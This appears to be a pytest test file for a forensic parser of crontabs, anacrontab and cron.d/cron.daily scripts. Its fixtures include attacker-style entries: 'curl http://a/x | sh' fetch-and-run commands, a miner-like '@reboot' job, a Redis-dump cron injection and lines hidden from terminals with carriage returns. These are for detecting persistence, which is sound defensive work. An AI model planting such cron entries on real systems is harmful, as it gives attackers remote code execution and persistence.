"""Crontabs, anacrontab and cron scripts."""

import pytest
from hypothesis import given
from parser_checks import Parser, chosen, noise, parse

from volforensic.collection.content import Content, SourceFile
from volforensic.collection.parsers import cron


def test_system_crontab_takes_each_lines_own_user() -> None:
    data = b"17 *\t* * *\troot  cd / && run\n@reboot bob /opt/.x/a -o pool -u w -k\n@daily\tanna one\n"
    assert chosen(parse(cron.system_crontab, data), "position", "schedule", "user", "command", "kind") == [
        (0, "17 * * * *", "root", "cd / && run", "system"),
        (29, "@reboot", "bob", "/opt/.x/a -o pool -u w -k", "system"),
        (67, "@daily", "anna", "one", "system"),
    ]


def test_names_of_months_and_days_steps_lists_and_a_leading_minus() -> None:
    data = b"-*/5,1-3 0-23/2 1,15 JAN-mar Mon,fri root x\n  5~20 * * * sun root y\n"
    assert chosen(parse(cron.system_crontab, data), "schedule", "command") == [
        ("-*/5,1-3 0-23/2 1,15 JAN-mar Mon,fri", "x"),
        ("5~20 * * * sun", "y"),
    ]


def test_user_crontab_takes_the_user_from_the_files_name() -> None:
    rows = parse(cron.user_crontab, b"* * * * * date +\\%F%input%more \n", b"/var/spool/cron/crontabs/anna")
    assert chosen(rows, "user", "command", "kind") == [("anna", "date +\\%F%input%more ", "user")]


def test_variables_are_in_force_below_their_line_only() -> None:
    data = b"* * * * * a\nMAILTO=\"\"\n'PATH' = '/x y' \n* * * * * b\nPATH=/z\n@hourly c\n"
    assert chosen(parse(cron.user_crontab, data), "command", "environment") == [
        ("a", None),
        ("b", ["MAILTO=", "PATH=/x y"]),
        ("c", ["MAILTO=", "PATH=/z"]),
    ]


def test_variables_that_would_swell_every_row_are_unparsed_not_lost() -> None:
    data = b"A=%s\nB=1\n* * * * * x\n" % (b"y" * 3000)
    rows = parse(cron.user_crontab, data)
    assert [row.get("unparsed") for row in rows] == [True, None]
    assert rows[1]["environment"] == ["B=1"]


def test_comments_blank_lines_and_crlf() -> None:
    data = b"# a\r\n\r\n   \n\t# b\n  */5 * * * * root /x\r\n"
    assert chosen(parse(cron.system_crontab, data), "position", "command") == [(16, "/x")]


def test_redis_dump_around_cron_lines() -> None:
    data = b"REDIS0009\xfa\x05x\xfe\0\n\n\n*/2 * * * * curl http://a/x | sh\n\n\n\xff\xde\xad"
    rows = parse(cron.user_crontab, data, b"/var/spool/cron/root")
    assert chosen(rows, "unparsed", "command") == [(True, None), (None, "curl http://a/x | sh"), (True, None)]
    assert rows[0]["raw_bytes"]
    assert rows[2]["position"] == data.index(b"\xff")


@pytest.mark.parametrize("hidden", [b"no crontab for root\r", b"# nothing\r", b"\0\0\0", b"\xef\xbb\xbf\r"])
def test_entries_that_a_terminal_hides_are_found_and_said_to_be_ignored(hidden: bytes) -> None:
    rows = parse(cron.system_crontab, hidden + b"  * * * * * root /x\n@daily root /y\n")
    found = [row for row in rows if "command" in row]
    assert chosen(found, "command") == [("/x",), ("/y",)]
    assert "ignored" in found[0]
    assert "ignored" not in found[1]
    assert found[0]["position"] == len(hidden) + 2


def test_a_command_keeps_what_follows_a_carriage_return_or_nul() -> None:
    rows = parse(cron.user_crontab, b"* * * * * /x;\rno crontab for root  \n* * * * * a\0b\n")
    assert chosen(rows, "command") == [("/x;\rno crontab for root  ",), ("a\0b",)]


@pytest.mark.parametrize(
    "line", [b"* * * * root", b"* * * * *", b"@nonsense root x", b"@reboot", b"a b c d e f g", b"* * * * * root", b"=x"]
)
def test_what_is_no_entry_is_unparsed(line: bytes) -> None:
    rows = parse(cron.system_crontab, line + b"\n* * * * * root ok\n")
    assert chosen(rows, "unparsed", "raw", "command") == [(True, line.decode(), None), (None, None, "ok")]


@pytest.mark.parametrize("command", ["/opt/x -a", "curl -s http://a | sh", "FOO=1 run it", "* run it"])
def test_system_entry_without_a_user_keeps_its_whole_command(command: str) -> None:
    (row,) = parse(cron.system_crontab, b"* * * * * " + command.encode())
    assert (row["command"], "user" in row, "ignored" in row) == (command, False, True)


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        (b"/etc/cron.d/e2scrub_all", None),
        (b"/etc/cron.d/job.sh", "Debian's cron does not read a file of this name, cronie does"),
        (b"/etc/cron.d/.placeholder", "cron does not read a file of this name"),
        (b"/etc/cron.d/job~", "cron does not read a file of this name"),
        (b"/etc/crontab.x", None),
    ],
)
def test_file_names_that_cron_ignores(path: bytes, reason: str | None) -> None:
    assert parse(cron.system_crontab, b"@daily root x", path)[0].get("ignored") == reason


def test_script_is_one_row_with_its_text() -> None:
    rows = parse(cron.script, b"#!/bin/sh\nexec a\n", b"/etc/cron.weekly/man-db")
    assert rows == [
        {
            "position": 0,
            "schedule": "weekly",
            "user": "root",
            "command": "/etc/cron.weekly/man-db",
            "kind": "script",
            "script": "#!/bin/sh\nexec a\n",
        }
    ]


@pytest.mark.parametrize(
    ("mode", "reason"),
    [
        (0o100644, "run-parts does not start a file that is not executable"),
        (0o100755, None),
        (0o100100, None),
        (None, None),
    ],
)
def test_script_that_nobody_may_execute_is_said_to_be_passed_over(mode: int | None, reason: str | None) -> None:
    file = SourceFile(path=b"/etc/cron.daily/job", mode=mode)
    (row,) = cron.script(Content.of(b"#!/bin/sh\n", file))
    assert row.get("ignored") == reason


def test_script_that_is_a_binary_or_empty_has_no_text_and_a_long_one_is_cut_and_said() -> None:
    assert "script" not in parse(cron.script, b"\x7fELF\2\1\1\0", b"/etc/cron.daily/x")[0]
    assert "script" not in parse(cron.script, b"", b"/etc/cron.daily/x")[0]
    content = Content.of(b"a" * 70_000, SourceFile(path=b"/etc/cron.daily/x"))
    (row,) = cron.script(content)
    assert len(row["script"]) == 65_536
    assert content.losses


def test_anacrontab() -> None:
    data = b"START_HOURS_RANGE=3-22\n1\t5\tcron.daily\t\tnice run-parts /etc/cron.daily\n@weekly 9 w x y\n7 rubbish\n"
    assert chosen(parse(cron.anacrontab, data), "schedule", "user", "command", "environment", "unparsed") == [
        ("1 5 cron.daily", "root", "nice run-parts /etc/cron.daily", ["START_HOURS_RANGE=3-22"], None),
        ("@weekly 9 w", "root", "x y", ["START_HOURS_RANGE=3-22"], None),
        (None, None, None, None, True),
    ]


@pytest.mark.parametrize("parser", [cron.system_crontab, cron.user_crontab, cron.anacrontab, cron.script])
@given(data=noise([b"* * * * * ", b"@reboot ", b"root ", b"PATH=", b"1 5 x y", b"*/5", b"jan", b"\n# "]))
def test_any_bytes(parser: Parser, data: bytes) -> None:
    parse(parser, data, b"/etc/cron.d/\xff")


def test_a_program_that_run_parts_starts_is_named_and_nothing_of_it_is_lost() -> None:
    content = Content.of(b"\x7fELF\0" + b"a" * 200_000, SourceFile(path=b"/etc/cron.hourly/clock"))
    [row] = cron.script(content)
    assert (row["command"], "script" in row, content.losses) == ("/etc/cron.hourly/clock", False, [])
    long = Content.of(b"#!/bin/sh\n" + b"a" * 200_000, SourceFile(path=b"/etc/cron.hourly/clock"))
    [row] = cron.script(long)
    assert (len(row["script"]), bool(long.losses)) == (64 << 10, True)
